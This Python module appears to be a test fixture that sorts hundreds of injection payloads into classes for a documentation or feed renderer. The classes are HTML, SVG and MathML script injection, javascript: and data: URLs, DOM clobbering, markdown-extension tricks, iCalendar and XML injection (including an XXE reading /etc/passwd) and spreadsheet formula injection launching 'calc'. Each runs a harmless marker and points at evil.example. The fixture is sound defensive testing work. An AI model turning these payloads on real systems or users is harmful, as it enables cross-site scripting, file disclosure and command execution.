# ruff: noqa: E501, SIM905 (payloads are as long as they are)
"""What somebody would type to make a reader's browser, feed reader or spreadsheet act, by class.

Each sets `globalThis.ran` where it runs, so that a page can tell. Written for this project, from
the classes that the HTML, SVG, MathML, URL, RFC 5545, XML and CSV specifications leave room for.
"""

from __future__ import annotations

from collections.abc import Iterator

JS = "globalThis.ran=1"

_EVENTS = (
    "abort animationcancel animationend animationiteration animationstart auxclick beforecopy "
    "beforecut beforeinput beforematch beforetoggle blur canplay change click close contextmenu "
    "copy cut dblclick drag dragend dragenter dragover dragstart drop durationchange ended error "
    "focus focusin focusout formdata fullscreenchange gotpointercapture input invalid keydown "
    "keypress keyup load loadeddata loadstart message mousedown mouseenter mousemove mouseout "
    "mouseover mouseup mousewheel paste pointerdown pointerenter pointermove pointerover pointerup "
    "scroll scrollend search securitypolicyviolation select selectstart slotchange submit toggle "
    "touchend touchstart transitionend transitionstart wheel"
).split()
_HOLDERS = ("p", "a", "b", "img", "div", "table", "details", "span", "code", "input", "h2", "li")


def _handlers() -> Iterator[str]:
    for number, event in enumerate(_EVENTS):
        tag = _HOLDERS[number % len(_HOLDERS)]
        form = number % 4
        if form == 0:
            yield f'<{tag} on{event}="{JS}">x</{tag}>'
        elif form == 1:
            yield f"<{tag} tabindex=0 ON{event.upper()}={JS}>x"
        elif form == 2:
            yield f"<{tag}/on{event}='{JS}'/>"
        else:
            yield f"<{tag} title=x\non{event}\n=\n{JS}>x</{tag}>"


_SCHEMES = (
    f"javascript:{JS}",
    f"JAVASCRIPT:{JS}",
    f"JaVaScRiPt:{JS}",
    f" javascript:{JS}",
    f"javascript&colon;{JS}",
    f"java&Tab;script:{JS}",
    f"java&NewLine;script:{JS}",
    f"&#x6A;avascript:{JS}",
    f"&#0000106avascript:{JS}",
    f"java&#x0a;script:{JS}",
    f"&#1;javascript:{JS}",
    f"javascript://x.example/%0a{JS}",
    f"javascript:/*--></title></style></textarea></script>*/{JS}",
    f"javascript:'{JS}'",
    f"vbscript:{JS}",
    f"livescript:{JS}",
    f"mocha:{JS}",
    f"data:text/html,<script>{JS}</script>",
    "data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnJhbj0xPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg onload='{JS}'>",
    f"data:application/xhtml+xml,<x onclick='{JS}'/>",
    f"view-source:javascript:{JS}",
    f"feed:javascript:{JS}",
    f"jar:javascript:{JS}",
    "filesystem:https://evil.example/temporary/x.html",
    "blob:https://evil.example/0",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "ms-word:ofe|u|https://evil.example/x.docx",
    f"https:javascript:{JS}",
)
_SINKS = (
    "[a]({})",
    "[a](<{}>)",
    "[a]\n\n[a]: {}",
    "![a]({})",
    '<a href="{}">a</a>',
    "<a href='{}'>a</a>",
    '<img src="{}" alt="a">',
    '<form action="{}"><button>Go</button></form>',
    '<iframe src="{}"></iframe>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<svg><a xlink:href="{}"><text>t</text></a></svg>',
    '<math><mi xlink:href="{}">m</mi></math>',
    '<link rel="stylesheet" href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<base href="{}">',
    '<video poster="{}"></video>',
    '<body background="{}">',
    '<blockquote cite="{}">q</blockquote>',
    '<button formaction="{}">b</button>',
)


def _addresses() -> Iterator[str]:
    """Every scheme in a link, and every place with several schemes."""
    yield from (_SINKS[0].format(scheme) for scheme in _SCHEMES)
    for number, sink in enumerate(_SINKS[1:]):
        for step in range(7):
            yield sink.format(_SCHEMES[(number * 7 + step) % len(_SCHEMES)])


CLASSES: dict[str, tuple[str, ...]] = {
    "script elements": tuple(
        form.format(JS)
        for form in (
            "<script>{}</script>",
            "<script type=module>{}</script>",
            '<script type="text/javascript">{}</script>',
            "<script\t>{}</script\n>",
            "<script/x>{}</script>",
            "<<script>{}//<</script>",
            "<scr<script>ipt>{}</scr</script>ipt>",
            "<script>/*</script><script>*/{}</script>",
            "<script src=data:text/javascript,{}></script>",
            "<script async defer src=//evil.example/{}>",
            "<svg><script>{}</script></svg>",
            "<svg><script href=data:text/javascript,{} /></svg>",
            "<math><script>{}</script></math>",
            "<script language=vbscript>{}</script>",
            "<noscript><script>{}</script></noscript>",
        )
    ),
    "handlers": tuple(_handlers()),
    "addresses": tuple(_addresses()),
    "out of an attribute": tuple(
        f"{quote}{end}<img src=x onerror={JS}>" for quote in ('"', "'", "`", "&quot;") for end in (
            ">", "/>", " x>", "]>", ")>",
        )
    ) + tuple(
        f"{quote} {event}={JS} x={quote}"
        for quote in ('"', "'", "`", "&#34;", "&apos;")
        for event in ("onmouseover", "autofocus onfocus", "style=animation-name:x onanimationstart")
    ),
    "out of a script": (
        f"</script><script>{JS}</script>",
        f"</SCRIPT ><svg onload={JS}>",
        f"<!--<script>{JS}</script>",
        f"]]></script><script>{JS}</script>",
        f"\\\"}};{JS};//",
        f"'-({JS})-'",
        f"\\u003c/script\\u003e<script>{JS}</script>",
        f"${{{JS}}}",
        f"{{{{ {JS} }}}}",
        f"{{% raw %}}<script>{JS}</script>{{% endraw %}}",
        f"*/{JS}/*",
        f"-->{JS}",
    ),
    "out of an element": tuple(
        f"</{name}><img src=x onerror={JS}>"
        for name in "title textarea style noscript xmp iframe noembed template option svg math a".split()
    ),
    "other languages": (
        f"<svg onload={JS}>",
        f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
        f"<svg><set attributeName=href to=javascript:{JS}>",
        f"<svg><foreignObject><body onload={JS}></foreignObject></svg>",
        f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{JS}'/>#x\"></svg>",
        f"<svg><style>@import 'data:text/css,*{{x:expression({JS})}}';</style></svg>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{JS}>x</maction></math>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={JS}></annotation-xml></math>",
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={JS}&gt;\">",
        f"<svg><desc><noscript><img src=x onerror={JS}></noscript></desc></svg>",
        f"<x xmlns='http://www.w3.org/1999/xhtml'><script>{JS}</script></x>",
        f"<xml:namespace prefix=t><img src=x onerror={JS}>",
    ),
    "parsed twice": (
        f"<noscript><p title=\"</noscript><img src=x onerror={JS}>\">",
        f"<select><style></select><img src=x onerror={JS}></style>",
        f"<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror={JS} src=1>\"></form>",
        f"<p title='<!--'><img src=x onerror={JS}>-->",
        f"<a title=\"&lt;img src=x onerror={JS}&gt;\">a</a>",
        f"&lt;img src=x onerror={JS}&gt;",
        f"&amp;lt;img src=x onerror={JS}&amp;gt;",
        f"<textarea><p title=\"</textarea><img src=x onerror={JS}>\">",
        f"<listing>&lt;img src=x onerror={JS}&gt;</listing>",
        f"<option><style></option></select><img src=x onerror={JS}></style>",
        f"<p id=\"<svg onload={JS}>\">x",
        f"<img src=\"<img src=x onerror={JS}>\" alt=\"<img src=x onerror={JS}>\">",
    ),
    "styles": (
        f"<div style=\"background:url(javascript:{JS})\">d</div>",
        f"<div style=\"width:expression({JS})\">d</div>",
        "<style>*{background:url(https://evil.example/x)}</style>",
        f"<p style=\"-moz-binding:url(data:text/xml,{JS})\">p</p>",
        f"<p style=\"behavior:url(#default#time2)\" onbegin={JS}>p</p>",
        "<p style=\"position:fixed;inset:0;z-index:9999\">over all</p>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        f"<style onload={JS}></style>",
    ),
    "markdown": (
        f'!!! note "<img src=x onerror={JS}>"\n\n    t',
        f'=== "<svg onload={JS}>"\n\n    t',
        f'??? tip "</summary><img src=x onerror={JS}>"\n\n    t',
        f'```py title="<img src=x onerror={JS}>"\nx\n```',
        f'``` {{ .py onclick={JS} title="x" }}\nx\n```',
        f"# A {{ onclick={JS} }}",
        f"*[a]: \"><img src=x onerror={JS}>\n\na",
        f"[^1]\n\n[^1]: <script>{JS}</script>",
        f"a{{: style=x onpointerover={JS} }}",
        f"<div markdown=1 onclick={JS}>\n*a*\n</div>",
        f"++<script>{JS}</script>++",
        f"| a |\n|--|\n| <img src=x onerror={JS}> |",
        f"- [x] <svg onload={JS}>",
        f"term\n:   <img src=x onerror={JS}>",
        f"$$\n\\href{{javascript:{JS}}}{{x}}\n$$",
        f"```mermaid\ngraph TD\nA[<img src=x onerror={JS}>]-->B\nclick A javascript:{JS}\n```",
        "--8<-- \".env\"",
        "[a](x \"\\\" onclick=globalThis.ran=1 x=\\\"\")",
        f"<a\x0bhref=javascript:{JS}>a</a>",
        f"[a](javascript:{JS} \"t\")",
    ),
    "standing in for a page's own": (
        "<a id=__md_scope name=__config>x</a>",
        "<form id=document><input name=getElementById></form>",
        "<img name=currentScript src=x alt=x>",
        "<a id=location href=https://evil.example>x</a>",
        "<p class=md-overlay data-md-component=announce>x</p>",
        "<input id=__search type=checkbox checked><label for=__drawer>x</label>",
        "<div class=ts-follow data-townsquare=x>x</div>",
        f"<script id=__config type=application/json>{{\"base\":\"javascript:{JS}\"}}</script>",
    ),
    "calendar lines": (
        "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Evil",
        "x\\nATTACH:https://evil.example/x",
        "x;ALTREP=\"https://evil.example\":y",
        "x\nBEGIN:VALARM\nACTION:AUDIO\nEND:VALARM",
        "x\u2028BEGIN:VEVENT",
        "x\x0bDTSTART:20260101",
        "X-ALT-DESC;FMTTYPE=text/html:<script>globalThis.ran=1</script>",
        ":;,\\\"",
    ),
    "xml": (
        "]]><evil/>",
        "<![CDATA[<script>globalThis.ran=1</script>]]>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
        "&xxe; &#0; &#x8; &unknown;",
        "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
        "</title><link href='https://evil.example'/><title>",
        "</entry><entry><title>Evil</title></entry>",
        "</content><content type='html'>&lt;script>globalThis.ran=1&lt;/script>",
    ),
    "spreadsheets": (
        "=HYPERLINK(\"https://evil.example\",\"x\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "%0A=1+1",
        "x\",\"=1+1",
        "=1+1;x",
    ),
    "odd characters": (
        "x\u202egnp.evil",
        "x\u2066y\u2069",
        "x\x08y",
        "x\x1b]8;;https://evil.example\x07y",
        "x\ufeffy",
        "x\ufffey",
        "\u00a0",
        "a" * 5000,
    ),
}  # fmt: skip
"""Payloads by what they try."""

ALL = tuple(each for payloads in CLASSES.values() for each in payloads)
ONE_OF_EACH = tuple(payloads[len(payloads) // 3] for payloads in CLASSES.values())
